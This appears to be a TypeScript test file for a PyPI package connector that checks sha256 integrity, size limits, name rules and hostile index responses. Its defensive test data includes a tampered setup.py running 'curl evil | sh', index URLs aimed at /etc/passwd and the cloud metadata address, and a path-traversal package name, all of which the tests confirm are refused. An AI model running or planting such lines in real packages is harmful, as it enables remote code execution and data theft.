import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchPackageRef } from './fetch-package-ref.js';
import { isPypiName, normalizePypiName, parsePypiFilename } from './pypi-name.js';
import { chooseReleaseFile, createPypiRegistry, type PypiFile, type PypiRegistry } from './pypi-registry.js';
import { startPypiStandIn, writePypiProject, type PypiStandIn } from './test-support/pypi-stand-in.js';
import { tarGzOf } from './test-support/tar-gz.js';
import { zipOf } from './test-support/zip.js';

let root: string;
let standIn: PypiStandIn;
let pypi: PypiRegistry;
const sdist = tarGzOf({ 'demo_pkg-1.0.0/PKG-INFO': 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0.0\n', 'demo_pkg-1.0.0/demo_pkg/__init__.py': 'x = 1\n' });
const wheel = zipOf({ 'demo_pkg/__init__.py': 'x = 1\n', 'demo_pkg-1.0.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0.0\n\nA demo.\n' });
const platformWheel = zipOf({ 'fast/_speed.so': Buffer.alloc(64, 7), 'fast-2.0.dist-info/METADATA': 'Name: fast\n' });
const mcpWheel = zipOf({ 'weather/__init__.py': '', 'weather_mcp-0.3.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: weather-mcp\nRequires-Dist: mcp[cli]>=1.2\nRequires-Dist: pytest; extra == "test"\n' });
const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'vigil-reg-pypi-'));
  await writePypiProject(root, {
    name: 'Demo_Pkg',
    yanked: { '0.9.0': 'broken build' },
    files: {
      '0.9.0': { 'demo_pkg-0.9.0.tar.gz': tarGzOf({ 'demo_pkg-0.9.0/PKG-INFO': 'Name: demo-pkg\n' }) },
      '1.0.0': { 'demo_pkg-1.0.0.tar.gz': sdist, 'demo_pkg-1.0.0-py3-none-any.whl': wheel },
    },
  });
  await writePypiProject(root, { name: 'fast', files: { '2.0': { 'fast-2.0.tar.gz': tarGzOf({ 'fast-2.0/PKG-INFO': 'Name: fast\n', 'fast-2.0/SKILL.md': '# skill\n' }), 'fast-2.0-cp312-cp312-manylinux_2_17_x86_64.whl': platformWheel } } });
  await writePypiProject(root, { name: 'weather-mcp', files: { '0.3.0': { 'weather_mcp-0.3.0-py3-none-any.whl': mcpWheel } } });
  await writePypiProject(root, { name: 'tampered', files: { '1.0': { 'tampered-1.0.tar.gz': tarGzOf({ 'tampered-1.0/PKG-INFO': 'Name: tampered\n' }) } } });
  standIn = await startPypiStandIn(root);
  pypi = createPypiRegistry({ url: standIn.url, backoffBaseMs: 10 });
});

afterAll(async () => {
  pypi?.close();
  await standIn?.close();
  await rm(root, { recursive: true, force: true });
});

describe('PyPI names and files', () => {
  it('normalises names as PEP 503 does', () => {
    expect(normalizePypiName('Demo_Pkg')).toBe('demo-pkg');
    expect(normalizePypiName('zope.interface')).toBe('zope-interface');
    expect(normalizePypiName('A--B__C..d')).toBe('a-b-c-d');
  });

  it('reads kind and version from file names', () => {
    expect(parsePypiFilename('demo_pkg-1.0.0-py3-none-any.whl', 'Demo-Pkg')).toEqual({ kind: 'wheel', version: '1.0.0', tags: 'py3-none-any' });
    expect(parsePypiFilename('demo_pkg-1.0.0-1-py3-none-any.whl', 'demo-pkg')?.version).toBe('1.0.0');
    expect(parsePypiFilename('Demo-Pkg-1.0.0.tar.gz', 'demo_pkg')).toEqual({ kind: 'sdist', version: '1.0.0', tags: null });
    expect(parsePypiFilename('other-1.0.tar.gz', 'demo')).toBeNull();
  });

  it('chooses the pure-Python wheel, else the sdist, else the first wheel by name', () => {
    const file = (filename: string, kind: PypiFile['kind']): PypiFile => ({ filename, kind, url: 'x', sha256: 'a', size: 1, yanked: false, yanked_reason: null, requires_python: null });
    expect(chooseReleaseFile([file('a-1.tar.gz', 'sdist'), file('a-1-py3-none-any.whl', 'wheel')])).toMatchObject({ file: { filename: 'a-1-py3-none-any.whl' }, because: 'pure-Python wheel' });
    expect(chooseReleaseFile([file('a-1-cp312-cp312-win_amd64.whl', 'wheel'), file('a-1.tar.gz', 'sdist')])).toMatchObject({ file: { filename: 'a-1.tar.gz' }, because: 'sdist' });
    expect(chooseReleaseFile([file('a-1-cp312-cp312-win_amd64.whl', 'wheel'), file('a-1-cp311-cp311-win_amd64.whl', 'wheel')])).toMatchObject({ file: { filename: 'a-1-cp311-cp311-win_amd64.whl' }, because: 'first wheel by name' });
    expect(chooseReleaseFile([])).toBeNull();
  });
});

describe('PyPI connector against the stand-in index', () => {
  it('fetches the pure-Python wheel of a release with its sha256 checked', async () => {
    const result = await pypi.fetch('Demo_Pkg', '1.0.0');
    if (result.state !== 'fetched') throw new Error(JSON.stringify(result));
    expect(result).toMatchObject({ name: 'demo-pkg', version: '1.0.0', purl: 'pkg:pypi/demo-pkg@1.0.0', chosen_because: 'pure-Python wheel', yanked: false, track: { track: 'packages' } });
    expect(result.file.filename).toBe('demo_pkg-1.0.0-py3-none-any.whl');
    expect(result.bytes.equals(wheel)).toBe(true);
    expect(result.sha256).toBe(sha(wheel));
  });

  it('fetches a named file (the purl file_name qualifier)', async () => {
    const result = await pypi.fetch('demo-pkg', '1.0.0', { fileName: 'demo_pkg-1.0.0.tar.gz' });
    expect(result.state === 'fetched' && result.bytes.equals(sdist)).toBe(true);
    expect(result.state === 'fetched' && result.purl).toBe('pkg:pypi/demo-pkg@1.0.0?file_name=demo_pkg-1.0.0.tar.gz');
    expect((await pypi.fetch('demo-pkg', '1.0.0', { fileName: 'nope.whl' })).state).toBe('version_not_found');
  });

  it('fetches what a pypi purl names, its file_name qualifier included', async () => {
    expect(await fetchPackageRef({ pypi }, 'pkg:pypi/Demo_Pkg@1.0.0')).toMatchObject({ state: 'fetched', purl: 'pkg:pypi/demo-pkg@1.0.0', chosen_because: 'pure-Python wheel' });
    expect(await fetchPackageRef({ pypi }, 'pkg:pypi/demo-pkg@1.0.0?file_name=demo_pkg-1.0.0.tar.gz')).toMatchObject({ state: 'fetched', chosen_because: 'file_name requested' });
    expect(await fetchPackageRef({}, 'pkg:pypi/demo-pkg@1.0.0')).toEqual({ state: 'unsupported', detail: 'no PyPI index is configured' });
  });

  it('marks a yanked release and still fetches it', async () => {
    const result = await pypi.fetch('demo-pkg', '0.9.0');
    expect(result).toMatchObject({ state: 'fetched', yanked: true, yanked_reason: 'broken build', chosen_because: 'sdist' });
  });

  it('takes the sdist when only platform wheels exist, and sees a SKILL.md at its root', async () => {
    const result = await pypi.fetch('fast', '2.0');
    expect(result).toMatchObject({ state: 'fetched', chosen_because: 'sdist', track: { track: 'skills' } });
  });

  it('reads Requires-Dist from the wheel to put an MCP server on mcp_servers', async () => {
    expect(await pypi.fetch('weather_mcp', '0.3.0')).toMatchObject({ state: 'fetched', track: { track: 'mcp_servers', reason: 'requires mcp' } });
  });

  it('answers missing projects and versions as states', async () => {
    expect((await pypi.fetch('no-such-project', '1.0')).state).toBe('not_found');
    expect((await pypi.fetch('demo-pkg', '7.7.7')).state).toBe('version_not_found');
    expect((await pypi.fetch('../etc/passwd', '1')).state).toBe('not_found');
  });

  it('refuses a file whose bytes do not match the published sha256', async () => {
    expect((await pypi.fetch('tampered', '1.0')).state).toBe('fetched');
    const evil = tarGzOf({ 'tampered-1.0/PKG-INFO': 'Name: tampered\n', 'tampered-1.0/setup.py': 'import os; os.system("curl evil | sh")\n' });
    await writeFile(join(root, 'tampered', '1.0', 'tampered-1.0.tar.gz'), evil);
    const before = pypi.counters.integrityMismatches;
    const result = await pypi.fetch('tampered', '1.0');
    expect(result).toMatchObject({ state: 'integrity_mismatch', actual: `sha256:${sha(evil)}` });
    expect('bytes' in result).toBe(false);
    expect(pypi.counters.integrityMismatches).toBe(before + 1);
  });

  it('refuses a file the index declares larger than the limit without downloading it', async () => {
    const small = createPypiRegistry({ url: standIn.url, maxArtifactBytes: 100 });
    const result = await small.fetch('demo-pkg', '1.0.0');
    small.close();
    expect(result).toMatchObject({ state: 'too_large', limit_bytes: 100, declared_bytes: wheel.length });
    // One request: the release JSON. The file itself was never asked for.
    expect(small.counters.requests).toBe(1);
  });

  it('reads the simple API in its PEP 691 JSON form, yanked files marked, and revalidates it with ETags', async () => {
    const first = await pypi.simpleFiles('Demo.Pkg');
    if (first.state !== 'ok') throw new Error(JSON.stringify(first));
    expect(first.files.map((file) => [file.filename, file.kind, file.yanked, file.yanked_reason])).toEqual([
      ['demo_pkg-0.9.0.tar.gz', 'sdist', true, 'broken build'],
      ['demo_pkg-1.0.0-py3-none-any.whl', 'wheel', false, null],
      ['demo_pkg-1.0.0.tar.gz', 'sdist', false, null],
    ]);
    const second = await pypi.simpleFiles('demo-pkg');
    expect(second.state === 'ok' && second.not_modified).toBe(true);
  });

  it('answers hostile index documents as states, never by throwing', async () => {
    const answers: Record<string, unknown> = {
      '/pypi/bad/1.0/json': { info: null, urls: [null, 5, 'x', { filename: 'bad-1.0.tar.gz', url: 'http://[nope', packagetype: 'sdist', digests: null }, { filename: 'bad-1.0.tar.gz', url: 'file:///etc/passwd', packagetype: 'sdist', digests: { sha256: 'ab' } }] },
      '/pypi/nodigest/1.0/json': { info: {}, urls: [{ filename: 'nodigest-1.0.tar.gz', url: '/f', packagetype: 'sdist', digests: null }] },
      '/simple/oddsimple/': { meta: { 'api-version': '1.0' }, files: [null, 7, { filename: 'oddsimple-1.0.tar.gz', url: 'http://[nope' }, { filename: 'oddsimple-1.0.tar.gz', url: '/f', hashes: null, yanked: null }] },
      '/simple/notpep691/': { files: [] },
    };
    const server: Server = createServer((req, res) => {
      const body = answers[req.url ?? ''];
      res.writeHead(body === undefined ? 404 : 200, { 'content-type': req.url?.startsWith('/simple/') ? 'application/vnd.pypi.simple.v1+json' : 'application/json' });
      res.end(JSON.stringify(body ?? {}));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const index = createPypiRegistry({ url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, retries: 0 });
    try {
      expect(await index.release('bad', '1.0')).toMatchObject({ state: 'ok', files: [] });
      expect(await index.fetch('bad', '1.0')).toMatchObject({ state: 'invalid_metadata' });
      expect(await index.fetch('nodigest', '1.0')).toMatchObject({ state: 'invalid_metadata', detail: 'nodigest-1.0.tar.gz: the index publishes no sha256' });
      const odd = await index.simpleFiles('oddsimple');
      expect(odd.state === 'ok' && odd.files.map((file) => [file.filename, file.sha256, file.yanked])).toEqual([['oddsimple-1.0.tar.gz', null, false]]);
      expect(await index.simpleFiles('notpep691')).toMatchObject({ state: 'invalid_metadata' });
    } finally {
      index.close();
      server.close();
    }
  });

  it('keeps only this release\'s files from the JSON API, with a usable sha256 and an allowed URL', async () => {
    const good = zipOf({ 'x/__init__.py': '', 'x-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: x\nVersion: 1.0\n' });
    const entry = (filename: string, url: string, sha256 = sha(good)) => ({ filename, url, packagetype: filename.endsWith('.whl') ? 'bdist_wheel' : 'sdist', digests: { sha256 } });
    const answers: Record<string, { type: string; body: unknown }> = {
      '/pypi/x/1.0/json': { type: 'application/json', body: { info: {}, urls: [entry('evil-1.0-py3-none-any.whl', '/f/good.whl'), entry('x-2.0-py3-none-any.whl', '/f/good.whl')] } },
      '/pypi/y/1.0/json': { type: 'application/json', body: { info: {}, urls: [entry('y-1.0-py3-none-any.whl', '/f/good.whl', 'abc')] } },
      '/pypi/z/1.0/json': { type: 'application/json', body: { info: {}, urls: [entry('z-1.0-py3-none-any.whl', 'http://169.254.169.254/latest/meta-data'), entry('z-1.0.tar.gz', 'http://u:p@127.0.0.1:1/z.tar.gz')] } },
      '/simple/html/': { type: 'text/html', body: { meta: { 'api-version': '1.0' }, files: [] } },
    };
    const seen: string[] = [];
    const server: Server = createServer((req, res) => {
      seen.push(req.url ?? '');
      if (req.url === '/f/good.whl') return void res.end(good);
      const answer = answers[req.url ?? ''];
      res.writeHead(answer === undefined ? 404 : 200, { 'content-type': answer?.type ?? 'application/json' });
      res.end(JSON.stringify(answer?.body ?? {}));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const index = createPypiRegistry({ url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, retries: 0 });
    try {
      expect(await index.release('x', '1.0')).toMatchObject({ state: 'ok', files: [] });
      expect(await index.fetch('x', '1.0')).toMatchObject({ state: 'invalid_metadata' });
      expect(await index.fetch('y', '1.0')).toMatchObject({ state: 'invalid_metadata', detail: 'y-1.0-py3-none-any.whl: the index publishes no sha256' });
      expect(await index.release('z', '1.0')).toMatchObject({ state: 'ok', files: [] });
      expect(seen).not.toContain('/f/good.whl');
      expect(await index.simpleFiles('html')).toMatchObject({ state: 'invalid_metadata' });
    } finally {
      index.close();
      server.close();
    }
  });

  it('takes requires_dist from the JSON API when the artifact\'s metadata lists none', async () => {
    const wheelBytes = zipOf({ 'srv/__init__.py': '', 'srv-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: srv\nVersion: 1.0\n' });
    const sdistBytes = tarGzOf({ 'src_only-1.0/PKG-INFO': 'Metadata-Version: 1.1\nName: src-only\nVersion: 1.0\n', 'src_only-1.0/setup.py': '' });
    const answers: Record<string, unknown> = {
      '/pypi/srv/1.0/json': { info: { requires_dist: ['FastMCP>=2'] }, urls: [{ filename: 'srv-1.0-py3-none-any.whl', url: '/f/srv.whl', packagetype: 'bdist_wheel', digests: { sha256: sha(wheelBytes) } }] },
      '/pypi/src-only/1.0/json': { info: { requires_dist: ['mcp>=1', 'pytest; extra == "test"'] }, urls: [{ filename: 'src_only-1.0.tar.gz', url: '/f/src.tgz', packagetype: 'sdist', digests: { sha256: sha(sdistBytes) } }] },
    };
    const server: Server = createServer((req, res) => {
      if (req.url === '/f/srv.whl') return void res.end(wheelBytes);
      if (req.url === '/f/src.tgz') return void res.end(sdistBytes);
      const body = answers[req.url ?? ''];
      res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body ?? {}));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const index = createPypiRegistry({ url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, retries: 0 });
    try {
      expect(await index.fetch('srv', '1.0')).toMatchObject({ state: 'fetched', track: { track: 'mcp_servers', reason: 'requires fastmcp' } });
      expect(await index.fetch('src-only', '1.0')).toMatchObject({ state: 'fetched', track: { track: 'mcp_servers', reason: 'requires mcp' } });
    } finally {
      index.close();
      server.close();
    }
  });

  it('answers a name PEP 508 does not allow, or one over 200 characters, without a request', async () => {
    const before = pypi.counters.requests;
    expect(isPypiName('a'.repeat(200))).toBe(true);
    expect(isPypiName('a'.repeat(201))).toBe(false);
    expect((await pypi.fetch('a'.repeat(300), '1.0')).state).toBe('not_found');
    expect((await pypi.fetch('-a', '1.0')).state).toBe('not_found');
    expect(pypi.counters.requests).toBe(before);
  });

  it('falls back to the simple API on an index without the JSON API (a mirror)', async () => {
    standIn.jsonApi = false;
    try {
      const mirror = createPypiRegistry({ url: standIn.url });
      const result = await mirror.fetch('demo-pkg', '1.0.0');
      expect(result).toMatchObject({ state: 'fetched', chosen_because: 'pure-Python wheel' });
      expect((await mirror.release('demo-pkg', '1.0.0')).state === 'ok' && (await mirror.release('demo-pkg', '1.0.0') as { source: string }).source).toBe('simple');
      expect((await mirror.fetch('demo-pkg', '5.0')).state).toBe('version_not_found');
      expect((await mirror.fetch('weather-mcp', '0.3.0'))).toMatchObject({ state: 'fetched', track: { track: 'mcp_servers' } });
      mirror.close();
    } finally {
      standIn.jsonApi = true;
    }
  });
});
